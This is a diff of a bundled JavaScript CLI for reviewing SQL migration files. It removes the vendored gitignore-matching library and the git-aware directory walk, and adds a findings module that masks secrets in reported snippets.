-    //   given, so asking first costs a search and saves a rewrite. Ten of the
-    //   fifteen passes never fire for a typical .gitignore line, and between
-    //   them they were 45% of this chain.
-    (prev, [matcher, replacer, required]) => {
-      if (matcher === DIRECT) {
-        return replacer(prev, pattern)
-      }
-
-      if (required !== UNDEFINED && prev.indexOf(required) < 0) {
-        return prev
-      }
-
-      // A pass whose matcher finds nothing hands back the very string it was
-      //   given, so asking first costs a search and saves a rewrite.
-      return matcher.test(prev)
-        ? prev.replace(matcher, replacer.bind(pattern))
-        : prev
-    },
-    source
-  )
-
-  // Most patterns hold no bracket expression at all, and then there is
-  //   nothing to put back.
-  return sources.length
-    ? replaced.replace(
-      REGEX_RESTORE_PLACEHOLDER,
-      (match, index) => sources[index]
-    )
-    : replaced
-}
-
-// `checkRegex` tests a path with a trailing slash, 'abc/', the way
-//   `git check-ignore` matches that literal string once the directory itself
-//   is known not to be excluded (see `checkIgnore`): a trailing '/' of the
-//   pattern is dropped, a basename pattern sees an empty basename, and only a
-//   pattern whose last segment is a pending wildcard can match what is left
-//   after the final slash -- 'abc/*' and 'abc/**' match 'abc/', and 'abc/**'
-//   also matches 'abc/d/' (#77, #169).
-const checkSourceOf = (body, prefix) => {
-  if (body[body.length - 1] === SLASH) {
-    prefix = makeRegexPrefix(body.slice(0, - 1))
-  }
-
-  const head = prefix.slice(0, - 1)
-  const last = prefix[prefix.length - 1]
-
-  return last === TRAILING_WILDCARD
-    ? `${head}$`
-    : last === TRAILING_DOUBLESTAR
-      ? head
-      : NEVER_MATCH
-}
-
-// A trailing slash does not stop a pattern being basename-only: it restricts
-//   the match to a directory, it does not let the pattern reach across one.
-//   Everything else a pattern can hold -- a wildcard, a character class, an
-//   escape -- stays inside a single path segment too, so a pattern with no
-//   separator in it can only ever describe the last one.
-const matchesBasename = body => {
-  const index = body.indexOf(SLASH)
-
-  return index < 0 || index === body.length - 1
-}
-
-// The last segment of a path, keeping a trailing slash, because a pattern that
-//   ends in one matches only a directory.
-// 'a/b/c.js' -> 'c.js';  'a/b/' -> 'b/';  'c.js' -> 'c.js' (no copy made)
-const basenameOf = path => {
-  const end = path.length - 1
-
-  const index = path.lastIndexOf(
-    SLASH,
-    path[end] === SLASH
-      ? end - 1
-      : end
-  )
-
-  return index < 0
-    ? path
-    : path.slice(index + 1)
-}
-
-// The parent directory of a path, with its trailing separator, or EMPTY when
-//   the path has none.
-// 'a/b/c' -> 'a/b/';  'a/b/' -> 'a/';  'a' -> EMPTY;  'a/' -> EMPTY
-//
-// A path holding an empty segment has to be taken apart, because its
-//   ancestors are not prefixes of it: the parent of 'a//b' is 'a/', not
-//   'a//', and the parent of '/a/' is nothing at all. Both shapes reach here
-//   -- 'a//b' is accepted outright, and `checkIgnore` does not put the path
-//   it is given through the relative-path check.
-//
-// Every other path is a prefix of itself, and cutting one costs a fraction of
-//   splitting it into an array and joining that back at every level: 73ns
-//   against 207ns.
-const parentOf = path => {
-  if (
-    path.charCodeAt(0) === SLASH_CODE
-    || path.indexOf(DOUBLE_SLASH) >= 0
-  ) {
-    const slices = path.split(SLASH).filter(Boolean)
-
-    slices.pop()
-
-    return slices.length
-      ? slices.join(SLASH) + SLASH
-      : EMPTY
-  }
-
-  const end = path.length - 1
-
-  // Look back from before a trailing separator, since that one belongs to the
-  //   path itself.
-  //
-  // A negative place to start would be a trap here: `lastIndexOf` clamps one
-  //   to 0 and searches there rather than reporting no match, so '/' would
-  //   come back as its own parent and the walk would never end. It cannot
-  //   happen -- that is the only path short enough to produce one, and the
-  //   test above has already sent it the other way.
-  const cut = path.lastIndexOf(
-    SLASH,
-    path.charCodeAt(end) === SLASH_CODE
-      ? end - 1
-      : end
-  )
-
-  return cut < 0
-    ? EMPTY
-    : path.slice(0, cut + 1)
-}
-
-const isString = subject => typeof subject === 'string'
-
-// Blank lines, comments and trailing lone backslashes are told by
-//   `createRule`, once the pattern is normalized.
-const checkPattern = pattern => pattern
-  && isString(pattern)
-
-// Git drops one CR before each LF, and one at the end of a final line that
-//   has no LF after it.
-const splitPattern = pattern => (
-  pattern[pattern.length - 1] === '\r'
-    ? pattern.slice(0, - 1)
-    : pattern
-)
-.split(REGEX_SPLITALL_CRLF)
-.filter(Boolean)
-
-class IgnoreRule {
-  constructor (
-    pattern,
-    mark,
-    body,
-    ignoreCase,
-    negative,
-    prefix
-  ) {
-    this.pattern = pattern
-    this.mark = mark
-    this.negative = negative
-
-    define(this, 'body', body)
-    define(this, 'ignoreCase', ignoreCase)
-    define(this, 'regexPrefix', prefix)
-  }
-
-  // Worked out on first use and kept behind an own property, the way `regex`
-  //   caches itself in `_regex`. Deciding it in the constructor instead would
-  //   add a fourth `defineProperty` to every rule ever built, which cost 4% of
-  //   every compile -- including the compiles of rules that are never matched
-  //   against anything.
-  get _basenameOnly () {
-    return define(this, '_basenameOnly', matchesBasename(this.body))
-  }
-
-  get regex () {
-    const key = UNDERSCORE + MODE_IGNORE
-
-    if (this[key]) {
-      return this[key]
-    }
-
-    return this._make(MODE_IGNORE, key)
-  }
-
-  get checkRegex () {
-    const key = UNDERSCORE + MODE_CHECK_IGNORE
-
-    if (this[key]) {
-      return this[key]
-    }
-
-    return this._make(MODE_CHECK_IGNORE, key)
-  }
-
-  _make (mode, key) {
-    const str = pinWildcards(
-      mode === MODE_IGNORE
-        ? this.regexPrefix
-        .replace(REGEX_REPLACE_TRAILING_WILDCARD, replaceTrailingWildcard)
-        .replace(REGEX_REPLACE_TRAILING_DOUBLESTAR, replaceTrailingDoublestar)
-        : checkSourceOf(this.body, this.regexPrefix)
-    )
-
-    const regex = this.ignoreCase
-      ? new RegExp(str, 'i')
-      : new RegExp(str)
-
-    return define(this, key, regex)
-  }
-}
-
-const hasTrailingBackslash = str => {
-  let count = 0
-
-  while (str[str.length - count - 1] === ESCAPE) {
-    count ++
-  }
-
-  return count % 2 === 1
-}
-
-// Read a line the way git does: when `stripLineEnd` is set (an unsplit array
-//   or object pattern), drop any trailing blank lines along with the LF
-//   before each and at most one CR at the end of the line; then trim trailing
-//   spaces in the same backward pass. Git trims spaces only, and a space
-//   escaped by an odd run of backslashes stays, unescaped, as the last one.
-// Scanned from the end: a regular expression can only try each start in
-//   turn, which is quadratic over a long run of spaces or backslashes.
-// 'a  ' -> 'a';  'a\ ' -> 'a ';  'a\\ ' -> 'a\\';  'a\t' -> 'a\t'
-// 'a\r\n' -> 'a';  'a\r\r' -> 'a\r';  'a\n\r' -> 'a'
-const trimEnd = (body, stripLineEnd) => {
-  let lineEnd = body.length
-  let end
-
-  for (;;) {
-    if (stripLineEnd && body[lineEnd - 1] === '\r') {
-      lineEnd --
-    }
-
-    end = lineEnd
-
-    while (body[end - 1] === SPACE) {
-      end --
-    }
-
-    if (!stripLineEnd || body[end - 1] !== '\n') {
-      break
-    }
-
-    lineEnd = end - 1
-  }
-
-  if (end === lineEnd) {
-    return body.slice(0, lineEnd)
-  }
-
-  let backslashes = 0
-
-  while (body[end - backslashes - 1] === ESCAPE) {
-    backslashes ++
-  }
-
-  return backslashes % 2
-    ? body.slice(0, end - 1) + SPACE
-    : body.slice(0, end)
-}
-
-const createRule = (
-  pattern,
-  mark,
-  ignoreCase,
-  stripLineEnd,
-  stripBOM
-) => {
-  // Git drops a BOM before it reads the first line, so before anything else.
-  let body = stripBOM && pattern[0] === BOM
-    ? pattern.slice(1)
-    : pattern
-
-  // > A line starting with # serves as a comment.
-  if (body[0] === '#') {
-    return
-  }
-
-  let negative = false
-
-  // > An optional prefix "!" which negates the pattern;
-  if (body[0] === '!') {
-    negative = true
-    body = body.slice(1)
-  }
-
-  // Normalize the body before checking which slashes anchor the pattern.
-  //   Otherwise `bar/ ` is mistaken for a pattern containing an inner slash.
-  //   A line from `splitPattern` has already lost its line ending, so only a
-  //   trailing space remains to trim there.
-  const last = body[body.length - 1]
-
-  if (
-    last === SPACE
-    || stripLineEnd && (last === '\r' || last === '\n')
-  ) {
-    body = trimEnd(body, stripLineEnd)
-  }
-
-  // > A blank line matches no files, so it can serve as a separator for
-  // >   readability.
-  // Nor does a lone "!", a pattern ending on an unpaired backslash, or
-  //   anything else left empty here: an empty pattern would compile to a
-  //   regex matching every path.
-  if (!body || hasTrailingBackslash(body)) {
-    return
-  }
-
-  body = body
-  // > Put a backslash ("\") in front of the first "!" for patterns that
-  // >   begin with a literal "!", for example, `"\!important!.txt"`.
-  .replace(REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION, '!')
-  // > Put a backslash ("\") in front of the first hash for patterns that
-  // >   begin with a hash.
-  .replace(REGEX_REPLACE_LEADING_EXCAPED_HASH, '#')
-
-  const regexPrefix = makeRegexPrefix(body)
-
-  return new IgnoreRule(
-    pattern,
-    mark,
-    body,
-    ignoreCase,
-    negative,
-    regexPrefix
-  )
-}
-
-class RuleManager {
-  constructor (ignoreCase) {
-    this._ignoreCase = ignoreCase
-    this._rules = []
-
-    // How many of the rules git would tag `EXC_FLAG_NODIR`.
-    //
-    // The scan uses it to decide, once for the whole set, whether handing
-    //   those rules the basename is worth what it costs the others. The
-    //   shortcut saves a full-path scan on every rule it applies to and costs
-    //   a check on every rule it does not, so a set where almost nothing is
-    //   basename-only comes out behind -- a 955 pattern set with 44 of them
-    //   measured 19% slower with the shortcut always on.
-    //
-    // Deciding this by measurement rather than by meaning is safe: a
-    //   basename-only pattern gives the very same answer against the whole
-    //   path, it just takes longer to say so. The choice can only change how
-    //   fast the scan runs, never what it returns.
-    this._basenameCount = 0
-  }
-
-  _add (pattern, index) {
-    // #32
-    if (pattern && pattern[KEY_IGNORE]) {
-      this._rules = this._rules.concat(pattern._rules._rules)
-      this._basenameCount += pattern._rules._basenameCount
-      this._added = true
-      return
-    }
-
-    const isStr = isString(pattern)
-    const raw = isStr
-      ? pattern
-      : pattern.pattern
-
-    const rule = checkPattern(raw)
-      && createRule(
-        raw,
-        isStr ? UNDEFINED : pattern.mark,
-        this._ignoreCase,
-        !this._split,
-        this._stripBOM && !index
-      )
-
-    if (rule) {
-      this._added = true
-      this._rules.push(rule)
-
-      // Deliberately not `rule._basenameOnly`: reading that would materialise
-      //   the rule's own copy, and the whole point of leaving it lazy is that
-      //   a rule which is compiled and never matched never pays for it.
-      if (matchesBasename(rule.body)) {
-        this._basenameCount ++
-      }
-    }
-  }
-
-  // @param {Array<string> | string | Ignore} pattern
-  add (pattern) {
-    this._added = false
-    this._split = isString(pattern)
-    this._stripBOM = !this._split || pattern[0] === BOM
-
-    makeArray(
-      this._split
-        ? splitPattern(pattern)
-        : pattern
-    ).forEach(this._add, this)
-
-    if (this._added) {
-      this._literalRules = UNDEFINED
-    }
-
-    return this._added
-  }
-
-  // Match the literal 'abc/' for `checkIgnore`, last rule wins. Only a rule
-  //   ending in a wildcard can match it (see `checkSourceOf`), so the rest
-  //   are left out once, rather than tested or compiled for every path.
-  testLiteral (path) {
-    const rules = this._literalRules || (
-      this._literalRules = this._rules.filter(
-        ({body}) => body[body.length - (
-          body[body.length - 1] === SLASH ? 2 : 1
-        )] === '*'
-      )
-    )
-
-    let ignored = false
-    let unignored = false
-    let matchedRule
-
-    for (let index = rules.length - 1; index >= 0; index --) {
-      const rule = rules[index]
-
-      if (rule.checkRegex.test(path)) {
-        ignored = !rule.negative
-        unignored = rule.negative
-        matchedRule = rule.negative
-          ? UNDEFINED
-          : rule
-        break
-      }
-    }
-
-    const ret = {
-      ignored,
-      unignored
-    }
-
-    if (matchedRule) {
-      ret.rule = matchedRule
-    }
-
-    return ret
-  }
-
-  // Test one single path without recursively checking parent directories
-  //
-  // - mode `string` either `MODE_IGNORE` or `MODE_CHECK_IGNORE`
-
-  // @returns {TestResult}
-  test (path, mode) {
-    // Most of a .gitignore is patterns with no slash in them, and running
-    //   those against the whole path makes the regular expression engine walk
-    //   every directory name on the way to the only segment that could match.
-    //   Handing them the basename instead is what git does, and it is where
-    //   the time in a directory walk goes: the rule scan was two thirds of it.
-    const rules = this._rules
-    const {length} = rules
-
-    const shortcut = this._basenameCount * 2 >= length
-
-    const basename = shortcut
-      ? basenameOf(path)
-      : path
-
-    // The last rule to match decides, as in git, and it is the rule
-    //   `git check-ignore -v` reports, so the scan runs from the end and stops
-    //   at the first match.
-    // A plain loop rather than `forEach`, so that `path`, `basename` and
-    //   `shortcut` are locals. As a callback they became closure variables,
-    //   and reaching for one of those once per rule cost 10% of a scan over a
-    //   large rule set -- more than the shortcut they were there to serve.
-    for (let index = length - 1; index >= 0; index --) {
-      const rule = rules[index]
-
-      if (rule[mode].test(
-        shortcut && rule._basenameOnly
-          ? basename
-          : path
-      )) {
-        const {negative} = rule
-
-        const ret = {
-          ignored: !negative,
-          unignored: negative
-        }
-
-        if (!negative) {
-          ret.rule = rule
-        }
-
-        return ret
-      }
-    }
-
-    return {
-      ignored: false,
-      unignored: false
-    }
-  }
-}
-
-const throwError = (message, Ctor) => {
-  throw new Ctor(message)
-}
-
-const checkPath = (path, originalPath, doThrow) => {
-  if (!isString(path)) {
-    return doThrow(
-      `path must be a string, but got \`${originalPath}\``,
-      TypeError
-    )
-  }
-
-  // We don't know if we should ignore EMPTY, so throw
-  if (!path) {
-    return doThrow(`path must not be empty`, TypeError)
-  }
-
-  // Check if it is a relative path
-  if (checkPath.isNotRelative(path)) {
-    const r = '`path.relative()`d'
-    return doThrow(
-      `path should be a ${r} string, but got "${originalPath}"`,
-      RangeError
-    )
-  }
-
-  return true
-}
-
-// > pathname should be a `path.relative()`d one
-//
-// The same thing `REGEX_TEST_INVALID_PATH` says, spelled out: a path is not
-//   relative if it begins with a separator, or with `./` or `../`, or is
-//   nothing but `.` or `..`. Every match is decided by the first three
-//   characters, and this runs on every path handed to the library -- where it
-//   was 55% of a cached lookup, more than the cache lookup itself.
-const isNotRelative = path => {
-  const first = path.charCodeAt(0)
-
-  if (first === SLASH_CODE) {
-    return true
-  }
-
-  if (first !== DOT_CODE) {
-    return false
-  }
-
-  // '.'
-  if (path.length === 1) {
-    return true
-  }
-
-  const second = path.charCodeAt(1)
-
-  // './'
-  if (second === SLASH_CODE) {
-    return true
-  }
-
-  if (second !== DOT_CODE) {
-    return false
-  }
-
-  // '..' or '../'
-  return path.length === 2 || path.charCodeAt(2) === SLASH_CODE
-}
-
-checkPath.isNotRelative = isNotRelative
-
-// On windows, the following function will be replaced
-/* istanbul ignore next */
-checkPath.convert = p => p
-
-
-const convertPath = target =>
-  isString(target) && checkPath.convert(target)
-
-
-class Ignore {
-  constructor ({
-    ignorecase = true,
-    ignoreCase = ignorecase,
-    allowRelativePaths = false
-  } = {}) {
-    define(this, KEY_IGNORE, true)
-
-    this._rules = new RuleManager(ignoreCase)
-    this._strictPathCheck = !allowRelativePaths
-    this._initCache()
-  }
-
-  _initCache () {
-    // A cache for the result of `.ignores()`
-    this._ignoreCache = Object.create(null)
-
-    // A cache for the result of `.test()`
-    this._testCache = Object.create(null)
-  }
-
-  add (pattern) {
-    if (this._rules.add(pattern)) {
-      // Some rules have just added to the ignore,
-      //   making the behavior changed,
-      //   so we need to re-initialize the result cache
-      this._initCache()
-    }
-
-    return this
-  }
-
-  // legacy
-  addPattern (pattern) {
-    return this.add(pattern)
-  }
-
-  // @returns {TestResult}
-  _test (originalPath, cache, path) {
-    checkPath(
-      path,
-      originalPath,
-      this._strictPathCheck
-        ? throwError
-        : RETURN_FALSE
-    )
-
-    return path
-      ? this._t(path, cache)
-      : {
-        ignored: false,
-        unignored: false
-      }
-  }
-
-  checkIgnore (target) {
-    // A Windows path is converted first, so that a directory given with a
-    //   trailing separator, `\` or `/`, is told the same way
-    const path = convertPath(target)
-
-    // If the path does not end with a slash, `.ignores()` is much equivalent
-    //   to `git check-ignore`
-    if (!path || path.charCodeAt(path.length - 1) !== SLASH_CODE) {
-      return this._test(target, this._testCache, path)
-    }
-
-    // Like `git check-ignore`: a directory excluded by itself or by an
-    //   ancestor settles it, and only then is the literal 'abc/' matched
-    //   against the rules (see `checkSourceOf`).
-    const dir = this._t(path, this._testCache)
-
-    if (dir.ignored) {
-      return dir
-    }
-
-    const literal = this._rules.testLiteral(path)
-
-    return literal.ignored || literal.unignored
-      ? literal
-      : dir
-  }
-
-  _t (
-    // The path to be tested
-    path,
-
-    // The cache for the result of a certain checking
-    cache
-  ) {
-    if (path in cache) {
-      return cache[path]
-    }
-
-    const parentPath = parentOf(path)
-
-    // If the path contains a parent directory, check the parent first
-    const parent = parentPath
-      ? this._t(parentPath, cache)
-      : UNDEFINED
-
-    return cache[path] = parent && parent.ignored
-      // > It is not possible to re-include a file if a parent directory of
-      // >   that file is excluded.
-      ? parent
-      : this._rules.test(path, MODE_IGNORE)
-  }
-
-  ignores (path) {
-    return this._test(path, this._ignoreCache, convertPath(path)).ignored
-  }
-
-  createFilter () {
-    return path => !this.ignores(path)
-  }
-
-  filter (paths) {
-    return makeArray(paths).filter(this.createFilter())
-  }
-
-  // @returns {TestResult}
-  test (path) {
-    return this._test(path, this._testCache, convertPath(path))
-  }
-}
-
-const factory = options => new Ignore(options)
-
-const isPathValid = path =>
-  checkPath(convertPath(path), path, RETURN_FALSE)
-
-/* istanbul ignore next */
-const setupWindows = () => {
-  /* eslint no-control-regex: "off" */
-  const makePosix = str => /^\\\\\?\\/.test(str)
-  || /["<>|\u0000-\u001F]+/u.test(str)
-    ? str
-    : str.replace(/\\/g, '/')
-
-  checkPath.convert = makePosix
-
-  // 'C:\\foo'     <- 'C:\\foo' has been converted to 'C:/'
-  // 'd:\\foo'
-  const REGEX_TEST_WINDOWS_PATH_ABSOLUTE = /^[a-z]:\//i
-  checkPath.isNotRelative = path =>
-    REGEX_TEST_WINDOWS_PATH_ABSOLUTE.test(path)
-    || isNotRelative(path)
-}
-
-
-// Windows
-// --------------------------------------------------------------
-/* istanbul ignore next */
-if (
-  // Detect `process` so that it can run in browsers.
-  typeof process !== 'undefined'
-  && process.platform === 'win32'
-) {
-  setupWindows()
-}
-
-// COMMONJS_EXPORTS ////////////////////////////////////////////////////////////
-
-module.exports = factory
-
-// Although it is an anti-pattern,
-//   it is still widely misused by a lot of libraries in github
-// Ref: https://github.com/search?q=ignore.default%28%29&type=code
-factory.default = factory
-
-module.exports.isPathValid = isPathValid
-
-// For testing purposes
-define(module.exports, Symbol.for('setupWindows'), setupWindows)
-
-
-/***/ }),
-
 /***/ 3995:
 /***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
 
@@ -10618,8 +8829,6 @@ var external_node_fs_ = __nccwpck_require__(3024);
 const external_node_v8_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:v8");
 ;// CONCATENATED MODULE: external "node:util"
 const external_node_util_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util");
-// EXTERNAL MODULE: ./node_modules/fastest-levenshtein/mod.js
-var mod = __nccwpck_require__(1916);
 // EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
 var dist = __nccwpck_require__(8815);
 ;// CONCATENATED MODULE: ./node_modules/zod/v4/core/util.js
@@ -20298,13 +18507,8 @@ function configJsonSchema() {
     };
 }
 
-;// CONCATENATED MODULE: external "node:child_process"
-const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
 // EXTERNAL MODULE: external "node:path"
 var external_node_path_ = __nccwpck_require__(6760);
-// EXTERNAL MODULE: ./node_modules/ignore/index.js
-var ignore = __nccwpck_require__(298);
-var ignore_default = /*#__PURE__*/__nccwpck_require__.n(ignore);
 ;// CONCATENATED MODULE: ./node_modules/balanced-match/dist/esm/index.js
 const balanced = (a, b, str) => {
     const ma = a instanceof RegExp ? maybeMatch(a, str) : a;
@@ -23897,8 +22101,6 @@ function prismaProvider(lockText) {
 
 
 
-
-
 /**
  * Default selection. Every `.sql` file is a candidate: a dangerous script outside a migrations
  * folder is still run by someone, and missing it is worse than one extra review.
@@ -23945,81 +22147,11 @@ class DiscoverError extends Error {
     name = 'DiscoverError';
 }
 const SKIP_DIRS = new Set(['node_modules', '.git', '__pycache__', '.venv', 'venv']);
-function readIgnore(file, base) {
-    let text;
-    try {
-        text = (0,external_node_fs_.readFileSync)(file, 'utf8');
-    }
-    catch {
-        return null; // no such file (or unreadable): no rules
-    }
-    return { base, ig: ignore_default()().add(text) };
-}
-function gitView(dir) {
-    let out;
-    try {
-        out = (0,external_node_child_process_namespaceObject.execFileSync)('git', ['-C', dir, 'ls-files', '-z', '--cached'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], maxBuffer: 1 << 30 });
-    }
-    catch {
-        return null;
-    }
-    const base = (0,external_node_path_.resolve)(dir);
-    const tracked = new Set();
-    const trackedDirs = new Set();
-    for (const rel of out.split('\0')) {
-        if (!rel)
-            continue;
-        const abs = (0,external_node_path_.resolve)(base, rel);
-        tracked.add(abs);
-        for (let d = (0,external_node_path_.dirname)(abs); d.length >= base.length && !trackedDirs.has(d); d = (0,external_node_path_.dirname)(d))
-            trackedDirs.add(d);
-    }
-    // The layers above `dir`: the work tree root's .git/info/exclude and every .gitignore from the
-    // root down to `dir`'s parent (`dir`'s own is read by the walk).
-    const chain = [];
-    let root = null;
-    for (let d = base;; d = (0,external_node_path_.dirname)(d)) {
-        chain.push(d);
-        if ((0,external_node_fs_.existsSync)((0,external_node_path_.join)(d, '.git'))) {
-            root = d;
-            break;
-        }
-        if ((0,external_node_path_.dirname)(d) === d)
-            break;
-    }
-    const layers = [];
-    if (root) {
-        const exclude = readIgnore((0,external_node_path_.join)(root, '.git', 'info', 'exclude'), root);
-        if (exclude)
-            layers.push(exclude);
-        for (const d of chain.reverse().slice(0, -1)) {
-            const l = readIgnore((0,external_node_path_.join)(d, '.gitignore'), d);
-            if (l)
-                layers.push(l);
-        }
-    }
-    return { tracked, trackedDirs, layers };
-}
-function isIgnored(path, isDir, layers, git) {
-    if (isDir ? git.trackedDirs.has(path) : git.tracked.has(path))
-        return false;
-    for (let i = layers.length - 1; i >= 0; i--) {
-        const rel = toPosix((0,external_node_path_.relative)(layers[i].base, path));
-        if (!rel || rel.startsWith('..'))
-            continue;
-        const r = layers[i].ig.test(isDir ? rel + '/' : rel);
-        if (r.ignored)
-            return true;
-        if (r.unignored)
-            return false;
-    }
-    return false;
-}
 /**
- * Every file under `dir` that git would not ignore, sorted. Symbolic links are followed (a linked
- * migration is still applied); a directory reached twice through links is walked once.
+ * Every file under `dir`, sorted. Symbolic links are followed (a linked migration is still
+ * applied); a directory reached twice through links is walked once.
  */
-function walkDir(dir, out, git, layers, seenDirs = new Set()) {
+function walkDir(dir, out, seenDirs = new Set()) {
     let real;
     try {
         real = (0,external_node_fs_.realpathSync)(dir);
@@ -24037,8 +22169,6 @@ function walkDir(dir, out, git, layers, seenDirs = new Set()) {
     catch (e) {
         throw new DiscoverError(`cannot read directory ${dir}: ${e.code ?? e.message}`);
     }
-    const own = git ? readIgnore((0,external_node_path_.join)(dir, '.gitignore'), (0,external_node_path_.resolve)(dir)) : null;
-    const here = own ? [...layers, own] : layers;
     entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
     for (const e of entries) {
         const p = (0,external_node_path_.join)(dir, e.name);
@@ -24055,11 +22185,9 @@ function walkDir(dir, out, git, layers, seenDirs = new Set()) {
                 isFile = true;
             }
         }
-        if (git && (isDir || isFile) && isIgnored((0,external_node_path_.resolve)(p), isDir, here, git))
-            continue;
         if (isDir) {
             if (!SKIP_DIRS.has(e.name))
-                walkDir(p, out, git, here, seenDirs);
+                walkDir(p, out, seenDirs);
         }
         else if (isFile)
             out.push(p);
@@ -24090,9 +22218,8 @@ function prismaHint(file, cache) {
     return cache.get(lock) ?? undefined;
 }
 /**
- * Files for the CLI: explicit files are always taken; directories are walked (honouring
- * .gitignore in a git work tree) and filtered by the globs. Throws DiscoverError for a path that does not exist and
- * for a directory in which nothing is selected (a mistyped path must not pass as "clean").
+ * Files for the CLI: explicit files are always taken; directories are walked and filtered by
+ * the globs. Throws DiscoverError for a path that does not exist.
  */
 function discoverFiles(paths, config = {}) {
     const picked = [];
@@ -24106,13 +22233,10 @@ function discoverFiles(paths, config = {}) {
         }
         if (st.isDirectory()) {
             const all = [];
-            const git = gitView(p);
-            walkDir(p, all, git, git?.layers ?? []);
-            const selected = all.filter((f) => isSelected(globPath(f), config));
-            if (!selected.length) {
-                throw new DiscoverError(`${p}: no migration files in this directory (${all.length ? `${all.length} file(s), none matching the ${config.include ? 'configured include globs' : 'default globs'}` : 'it is empty'}); pass the migrations folder or the files themselves`);
-            }
-            picked.push(...selected);
+            walkDir(p, all);
+            for (const f of all)
+                if (isSelected(globPath(f), config))
+                    picked.push(f);
         }
         else
             picked.push(p);
@@ -24136,6 +22260,341 @@ function discoverFiles(paths, config = {}) {
         out.push(hint ? { path, content, dialectHint: hint } : { path, content });
     }
     return out;
+}
+
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(7598);
+;// CONCATENATED MODULE: ./src/analyze.ts
+// analyze: run the rules over parsed statements, unit texts and whole files; turn their reports
+// into findings (positions, snippets, fingerprints, gating) with every secret redacted.
+
+const SNIPPET_MAX = 160;
+function snippetOf(text) {
+    const f = firstLine(text);
+    return finishSnippet(f.line, f.more);
+}
+/** The first non-blank line of a text, as written (secrets are redacted from it before it is cut). */
+function firstLine(text) {
+    let i = 0;
+    while (i < text.length) {
+        let e = text.indexOf('\n', i);
+        if (e < 0)
+            e = text.length;
+        const line = text.slice(i, e);
+        if (line.trim())
+            return { line, more: text.slice(e + 1).trim().length > 0 };
+        i = e + 1;
+    }
+    return { line: '', more: false };
+}
+function finishSnippet(line, more) {
+    let s = line.trim().replace(/\s+/g, ' ');
+    if (s.length > SNIPPET_MAX)
+        s = s.slice(0, SNIPPET_MAX) + '…';
+    else if (more)
+        s += ' …';
+    return s;
+}
+/** How a secret is shown: never the value, at most its first two characters and its length. */
+function maskSecret(secret) {
+    const head = secret.length >= 8 ? secret.slice(0, 2) : '';
+    return `${head}…(${secret.length} chars)`;
+}
+function redact(text, secrets) {
+    let out = text;
+    const all = [...secrets].filter(Boolean);
+    // Longest first, so a secret that contains another is masked whole.
+    const list = all.filter((s) => s.length >= 3).sort((a, b) => b.length - a.length);
+    for (const s of list) {
+        if (!out.includes(s))
+            continue;
+        // A secret that is a plain word (`postgres`, `admin`: well-known defaults) is masked where it
+        // stands as a word, not inside longer ones (`postgresql`); any other secret everywhere.
+        if (/^[A-Za-z]+$/.test(s))
+            out = out.replace(new RegExp(`(?<![A-Za-z0-9_])${s}(?![A-Za-z0-9_])`, 'g'), maskSecret(s));
+        else
+            out = out.split(s).join(maskSecret(s));
+    }
+    // One- and two-character secrets only where they stand quoted (`'ab'`) or as a URL password
+    // (`:ab@`): masking every `a` of a message would make it unreadable.
+    for (const s of all.filter((x) => x.length < 3)) {
+        const e = s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+        out = out.replace(new RegExp(`(['"\`])${e}\\1|(:)${e}(@)`, 'g'), (_m, q, c, at) => (q ? q + maskSecret(s) + q : c + maskSecret(s) + at));
+    }
+    // A text cut short (a snippet, a statement quoted in a message) may end with the first part of
+    // a secret before `…`, or start with its last part: mask those pieces too.
+    for (const s of list) {
+        if (s.length < 4)
+            continue;
+        out = maskCutPieces(out, s);
+    }
+    return out;
+}
+const CUT = /…|\.\.\./g;
+function maskCutPieces(text, s) {
+    // Pieces of text between cut marks; the first may start with the secret's tail, and any piece
+    // followed by a cut mark or the end of the text may end with its head.
+    const parts = [];
+    let last = 0;
+    for (const m of text.matchAll(CUT)) {
+        parts.push({ body: text.slice(last, m.index), cut: m[0] });
+        last = m.index + m[0].length;
+    }
+    parts.push({ body: text.slice(last), cut: '' });
+    return parts
+        .map((p, i) => {
+        let b = p.body;
+        for (let k = Math.min(s.length - 1, b.length); k >= 3; k--) {
+            if (b.endsWith(s.slice(0, k))) {
+                b = b.slice(0, b.length - k) + maskSecret(s);
+                break;
+            }
+        }
+        if (i === 0 || parts[i - 1].cut) {
+            for (let k = Math.min(s.length - 1, b.length); k >= 3; k--) {
+                if (b.startsWith(s.slice(s.length - k))) {
+                    b = maskSecret(s) + b.slice(k);
+                    break;
+                }
+            }
+        }
+        return b + p.cut;
+    })
+        .join('');
+}
+class Analyzer {
+    rules;
+    config;
+    drafts = [];
+    secrets = new Set();
+    /** Rule meta by id, for the notes the extract stage reports by rule id. */
+    metaById;
+    constructor(rules, config) {
+        this.rules = rules;
+        this.config = config;
+        this.metaById = new Map(rules.map((r) => [r.meta.id, r.meta]));
+    }
+    add(meta, r, where) {
+        for (const s of r.secrets ?? [])
+            if (s)
+                this.secrets.add(s);
+        this.drafts.push({
+            meta,
+            severity: r.severity ?? meta.severity,
+            path: where.path,
+            line: where.line,
+            column: where.column,
+            endLine: Math.max(where.endLine, where.line),
+            message: r.message,
+            snippet: r.snippet ?? where.snippet,
+            down: r.down ?? where.down,
+            norm: where.norm,
+            key: r.key ?? '',
+        });
+    }
+    statementReporter(meta, stmt) {
+        return (r) => {
+            const p = stmt.unit.pos(stmt.start + (r.offset ?? 0));
+            const end = stmt.unit.pos(stmt.end);
+            this.add(meta, r, {
+                path: stmt.unit.path,
+                line: r.line ?? p.line,
+                column: r.column ?? p.column,
+                endLine: r.endLine ?? end.line,
+                snippet: stmt.unit.snippet ?? stmt.text,
+                down: stmt.unit.down,
+                norm: stmt.lexical,
+            });
+        };
+    }
+    unitReporter(meta, unit) {
+        return (r) => {
+            const startOff = r.unitOffset ?? 0;
+            const p = unit.pos(startOff);
+            const e = unit.pos(r.unitEnd ?? startOff);
+            const lineText = unit.text.slice(startOff, r.unitEnd ?? startOff + SNIPPET_MAX);
+            // The snippet runs to the end of the line, not SNIPPET_MAX characters: it is redacted before
